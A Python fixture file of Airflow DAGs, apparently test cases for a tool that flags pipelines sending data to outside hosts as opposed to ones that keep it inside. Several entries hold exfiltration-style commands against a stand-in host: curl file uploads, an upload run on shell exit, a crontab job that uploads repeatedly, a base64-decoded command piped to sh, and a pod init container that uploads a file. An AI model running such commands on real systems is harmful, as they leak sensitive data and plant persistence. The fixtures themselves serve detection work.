"""More of servers, warehouses and clusters: hooks handed over as objects, templated connections, what is given to others."""

from airflow.providers.apache.spark.operators.spark_jdbc import SparkJDBCOperator
from airflow.providers.apache.spark.operators.spark_submit import SparkSubmitOperator
from airflow.providers.cncf.kubernetes.operators.job import KubernetesJobOperator
from airflow.providers.cncf.kubernetes.operators.pod import KubernetesPodOperator
from airflow.providers.common.sql.operators.sql import SQLExecuteQueryOperator
from airflow.providers.common.sql.sensors.sql import SqlSensor
from airflow.providers.databricks.operators.databricks import DatabricksRunNowOperator
from airflow.providers.databricks.operators.databricks_sql import DatabricksSqlOperator
from airflow.providers.ftp.operators.ftp import FTPFileTransmitOperator, FTPSFileTransmitOperator
from airflow.providers.http.operators.http import HttpOperator
from airflow.providers.http.sensors.http import HttpSensor
from airflow.providers.sftp.hooks.sftp import SFTPHook
from airflow.providers.sftp.operators.sftp import SFTPOperator
from airflow.providers.sftp.sensors.sftp import SFTPSensor
from airflow.providers.smtp.operators.smtp import EmailOperator
from airflow.providers.snowflake.operators.snowflake import SnowflakeSqlApiOperator
from airflow.providers.snowflake.transfers.copy_into_snowflake import CopyFromExternalStageToSnowflakeOperator
from airflow.providers.ssh.hooks.ssh import SSHHook
from airflow.providers.ssh.operators.ssh import SSHOperator
from corpus import dag
from kubernetes.client import models as k8s

ENV = [k8s.V1EnvVar(name="OUT", value="s3://us-research/x")]
CURL = k8s.V1Container(name="c", image="i", command=["curl", "-T", "/srv/x", "https://drop.partner.example/"])

with dag("sftp_hook_to_a_stranger"):
    SFTPOperator(
        task_id="t", sftp_hook=SFTPHook(ssh_conn_id="sftp_abroad"), local_filepath="/srv/x", remote_filepath="/x"
    )

with dag("ssh_hook_to_a_stranger"):
    SSHOperator(task_id="t", ssh_hook=SSHHook(remote_host="drop.partner.example", username="me"), command="date")

with dag("ssh_hook_to_our_own"):
    SSHOperator(task_id="t", ssh_hook=SSHHook(ssh_conn_id="sftp_own"), command="date")

with dag("ssh_heredoc"):
    SSHOperator(
        task_id="t", ssh_conn_id="sftp_own", command="curl --data-binary @- https://drop.partner.example/ <<EOF\nx\nEOF"
    )

with dag("ssh_heredoc_script"):
    SSHOperator(
        task_id="t",
        ssh_conn_id="sftp_own",
        command="bash -s <<'EOF'\ncurl -T /srv/x https://drop.partner.example/\nEOF",
    )

with dag("ssh_trap"):
    SSHOperator(task_id="t", ssh_conn_id="sftp_own", command="trap 'curl -T /srv/x https://drop.partner.example/' EXIT")

with dag("ssh_awk"):
    SSHOperator(task_id="t", ssh_conn_id="sftp_own", command="awk '{ system(\"curl https://\" $1) }' /srv/x")

with dag("ssh_awk_harmless"):
    SSHOperator(task_id="t", ssh_conn_id="sftp_own", command="awk -F';' '{ print $1 }' /srv/x | sed 's/a/b/' > /srv/y")

with dag("ssh_perl_socket"):
    SSHOperator(
        task_id="t",
        ssh_conn_id="sftp_own",
        command="perl -MIO::Socket -e 'IO::Socket::INET->new(\"drop.partner.example:80\")'",
    )

with dag("ssh_crontab"):
    SSHOperator(
        task_id="t",
        ssh_conn_id="sftp_own",
        command="echo '* * * * * curl -T /srv/x https://drop.partner.example/' | crontab -",
    )

with dag("http_fhir_search"):
    HttpOperator(
        task_id="t", http_conn_id="http_own", endpoint="fhir/Observation?code=http://loinc.org|8867-4", method="GET"
    )

with dag("ssh_host_behind_an_option"):
    SSHOperator(task_id="t", ssh_conn_id="sftp_own", command="/opt/send --host pg.partner.example --table p")

with dag("ssh_base64"):
    SSHOperator(task_id="t", ssh_conn_id="sftp_own", command="echo Y3VybCBodHRwczovL3g= | base64 -d | sh")

with dag("ssh_script_of_the_host"):
    SSHOperator(task_id="t", ssh_conn_id="sftp_own", command="cd /srv && ./nightly.sh --day 2026-11-25")

with dag("ssh_dump_inside"):
    SSHOperator(
        task_id="t",
        ssh_conn_id="sftp_own",
        command="set -e; pg_dump -h pg.chu.example eds | gzip > /srv/x.gz && scp /srv/x.gz me@sftp.chu.example:/in/",
    )

with dag("sftp_sensor_inside"):
    SFTPSensor(task_id="t", sftp_conn_id="sftp_own", path="/in/x")

with dag("sftp_mapped_hosts"):
    SFTPOperator.partial(task_id="t", ssh_conn_id="sftp_own", local_filepath="/srv/x", remote_filepath="/x").expand(
        remote_host=["sftp.chu.example", "sftp.partner.example"]
    )

with dag("ftp_in_the_clear_to_our_own"):
    FTPFileTransmitOperator(task_id="t", ftp_conn_id="ftps_own", local_filepath="/srv/x", remote_filepath="/x")

with dag("ftps_to_our_own"):
    FTPSFileTransmitOperator(task_id="t", ftp_conn_id="ftps_own", local_filepath="/srv/x", remote_filepath="/x")

with dag("http_by_a_proxy_of_the_call"):
    HttpOperator(
        task_id="t",
        http_conn_id="http_own",
        endpoint="x",
        extra_options={"proxies": {"https": "http://drop.partner.example:3128"}},
    )

with dag("http_by_a_proxy_of_the_connection"):
    HttpOperator(task_id="t", http_conn_id="http_proxied", endpoint="x")

with dag("http_deferred_abroad"):
    HttpOperator(task_id="t", http_conn_id="http_abroad", endpoint="x", deferrable=True)

with dag("http_sensor_inside"):
    HttpSensor(task_id="t", http_conn_id="http_own", endpoint="metadata")

with dag("http_templated_connection"):
    HttpOperator(task_id="t", http_conn_id="{{ 'http' }}_abroad", endpoint="x", data="x")

with dag("http_labels_in_the_body"):
    HttpOperator(
        task_id="t", http_conn_id="http_own", endpoint="fhir", method="POST", data='{"system": "http://loinc.org"}'
    )

with dag("mail_with_attachment_inside"):
    EmailOperator(
        task_id="t",
        to="Data Protection <dpo@chu.example>",
        subject="s",
        html_content="see https://wiki.partner.example",
        files=["/srv/x.csv"],
        conn_id="smtp_own",
    )

with dag("mail_with_attachment_out"):
    EmailOperator(
        task_id="t",
        to="dpo@chu.example; me@mail.example",
        subject="s",
        html_content="x",
        files=["/srv/x.csv"],
        conn_id="smtp_own",
    )

with dag("mail_blind_copy_out"):
    EmailOperator(
        task_id="t",
        to="dpo@chu.example",
        bcc=["Me <me@mail.example>"],
        subject="s",
        html_content="x",
        conn_id="smtp_own",
    )

with dag("sql_templated_connection"):
    SQLExecuteQueryOperator(task_id="t", conn_id="{{ 'pg' }}_abroad", sql="select 1")

with dag("sql_subscription"):
    SQLExecuteQueryOperator(
        task_id="t",
        conn_id="pg_own",
        sql="CREATE SUBSCRIPTION s CONNECTION 'host=pg.partner.example dbname=x' PUBLICATION p",
    )

with dag("sql_aws_export"):
    SQLExecuteQueryOperator(
        task_id="t",
        conn_id="pg_own",
        sql="SELECT * FROM aws_s3.query_export_to_s3('select 1', aws_commons.create_s3_uri('us-research','x','us-east-1'))",
    )

with dag("sql_anonymous_block"):
    SQLExecuteQueryOperator(
        task_id="t",
        conn_id="pg_own",
        sql="DO $$ BEGIN PERFORM dblink_connect('host=drop.partner.example'); END $$",
    )

with dag("sql_untrusted_language"):
    SQLExecuteQueryOperator(
        task_id="t",
        conn_id="pg_own",
        sql="CREATE FUNCTION f() RETURNS int AS $$ import urllib.request $$ LANGUAGE plpython3u",
    )

with dag("sql_trusted_language"):
    SQLExecuteQueryOperator(
        task_id="t",
        conn_id="pg_own",
        sql="CREATE FUNCTION f(a int) RETURNS int AS $$ BEGIN RETURN a + 1; END $$ LANGUAGE plpgsql",
    )

with dag("sql_copy_on_the_server"):
    SQLExecuteQueryOperator(task_id="t", conn_id="pg_own", sql="COPY p TO '/srv/p.csv' CSV HEADER")

with dag("sql_copy_through_a_local_filter"):
    SQLExecuteQueryOperator(task_id="t", conn_id="pg_own", sql="COPY p TO PROGRAM 'gzip > /srv/p.csv.gz'")

with dag("sql_merge"):
    SQLExecuteQueryOperator(
        task_id="t",
        conn_id="pg_own",
        sql=[
            "CREATE TABLE IF NOT EXISTS s AS SELECT * FROM p",
            "INSERT INTO s SELECT p.* FROM p JOIN q USING (id) ON CONFLICT DO NOTHING",
            "UPDATE s SET url = 'https://wiki.partner.example/' || id",
            "VACUUM ANALYZE s",
        ],
    )

with dag("sql_sensor_inside"):
    SqlSensor(task_id="t", conn_id="pg_own", sql="select count(*) from p")

with dag("snowflake_stage_abroad"):
    SnowflakeSqlApiOperator(
        task_id="t",
        snowflake_conn_id="snow_paris",
        sql="CREATE OR REPLACE STAGE s URL='azure://partner.blob.core.windows.net/c'; COPY INTO @s FROM p",
        statement_count=2,
    )

with dag("snowflake_stage_inside"):
    SnowflakeSqlApiOperator(
        task_id="t", snowflake_conn_id="snow_paris", sql="CREATE STAGE s URL='s3://chu-paris/x/'", statement_count=1
    )

with dag("snowflake_share"):
    SnowflakeSqlApiOperator(
        task_id="t", snowflake_conn_id="snow_paris", sql="ALTER SHARE s ADD ACCOUNTS = org.partner", statement_count=1
    )

with dag("snowflake_external_function"):
    SnowflakeSqlApiOperator(
        task_id="t",
        snowflake_conn_id="snow_paris",
        sql="CREATE EXTERNAL FUNCTION f(a int) RETURNS variant API_INTEGRATION = i AS 'https://drop.partner.example/f'",
        statement_count=1,
    )

with dag("snowflake_put"):
    SQLExecuteQueryOperator(task_id="t", conn_id="snow_paris", sql="PUT file:///srv/x.csv @~/x; SELECT 1")

with dag("snowflake_load"):
    CopyFromExternalStageToSnowflakeOperator(
        task_id="t", snowflake_conn_id="snow_paris", table="p", stage="s", file_format="(type = 'CSV')"
    )

with dag("databricks_directory"):
    DatabricksSqlOperator(
        task_id="t",
        databricks_conn_id="dbx_own",
        sql="INSERT OVERWRITE DIRECTORY 's3://us-research/x' USING PARQUET SELECT * FROM p",
    )

with dag("databricks_table"):
    DatabricksSqlOperator(
        task_id="t", databricks_conn_id="dbx_own", sql="CREATE TABLE s AS SELECT * FROM p", output_path="/srv/x.csv"
    )

with dag("databricks_job_given_a_bucket"):
    DatabricksRunNowOperator(
        task_id="t",
        databricks_conn_id="dbx_own",
        job_id=1,
        notebook_params={"out": "abfss://c@partner.dfs.core.windows.net/"},
    )

with dag("databricks_job_given_a_day"):
    DatabricksRunNowOperator(task_id="t", databricks_conn_id="dbx_own", job_id=1, notebook_params={"day": "{{ 'x' }}"})

with dag("spark_endpoint_abroad"):
    SparkSubmitOperator(
        task_id="t",
        conn_id="spark_own",
        application="/srv/x.py",
        conf={"spark.hadoop.fs.s3a.endpoint": "https://drop.partner.example"},
    )

with dag("spark_bare_endpoint_abroad"):
    SparkSubmitOperator(
        task_id="t",
        conn_id="spark_own",
        application="/srv/x.py",
        conf={"spark.hadoop.fs.s3a.endpoint": "drop.partner.example"},
    )

with dag("spark_endpoint_inside"):
    SparkSubmitOperator(
        task_id="t",
        conn_id="spark_own",
        application="/srv/x.py",
        conf={
            "spark.hadoop.fs.s3a.endpoint": "https://oos.eu-west-2.outscale.com",
            "spark.serializer": "org.apache.spark.serializer.KryoSerializer",
        },
    )

with dag("spark_jdbc_abroad"):
    SparkJDBCOperator(
        task_id="t", spark_conn_id="spark_own", jdbc_conn_id="pg_abroad", cmd_type="spark_to_jdbc", jdbc_table="p"
    )

with dag("spark_jdbc_inside"):
    SparkJDBCOperator(
        task_id="t", spark_conn_id="spark_own", jdbc_conn_id="pg_own", cmd_type="spark_to_jdbc", jdbc_table="p"
    )

with dag("pod_env_as_objects"):
    KubernetesPodOperator(task_id="t", kubernetes_conn_id="k8s_own", name="x", image="i", env_vars=ENV)

with dag("pod_init_container"):
    KubernetesPodOperator(task_id="t", kubernetes_conn_id="k8s_own", name="x", image="i", init_containers=[CURL])

with dag("pod_whole_spec"):
    KubernetesPodOperator(
        task_id="t",
        kubernetes_conn_id="k8s_own",
        full_pod_spec=k8s.V1Pod(spec=k8s.V1PodSpec(containers=[CURL])),
    )

with dag("pod_template_of_a_file"):
    KubernetesPodOperator(task_id="t", kubernetes_conn_id="k8s_own", name="x", pod_template_file="/srv/nowhere.yaml")

with dag("pod_with_labels_and_volumes"):
    KubernetesPodOperator(
        task_id="t",
        kubernetes_conn_id="k8s_own",
        name="x",
        image="registry.chu.example/etl:1",
        cmds=["python", "etl.py"],
        arguments=["--day", "{{ 'x' }}"],
        env_vars={"PGHOST": "pg.chu.example", "LANG": "C.UTF-8"},
        annotations={"see": "https://wiki.partner.example/"},
        volumes=[k8s.V1Volume(name="v", empty_dir=k8s.V1EmptyDirVolumeSource())],
    )

with dag("pod_env_of_a_bare_host"):
    KubernetesPodOperator(
        task_id="t", kubernetes_conn_id="k8s_own", name="x", image="i", env_vars={"PGHOST": "pg.partner.example"}
    )

with dag("job_given_a_bucket"):
    KubernetesJobOperator(
        task_id="t", kubernetes_conn_id="k8s_own", name="x", image="i", arguments=["--out", "gs://us-research/x"]
    )
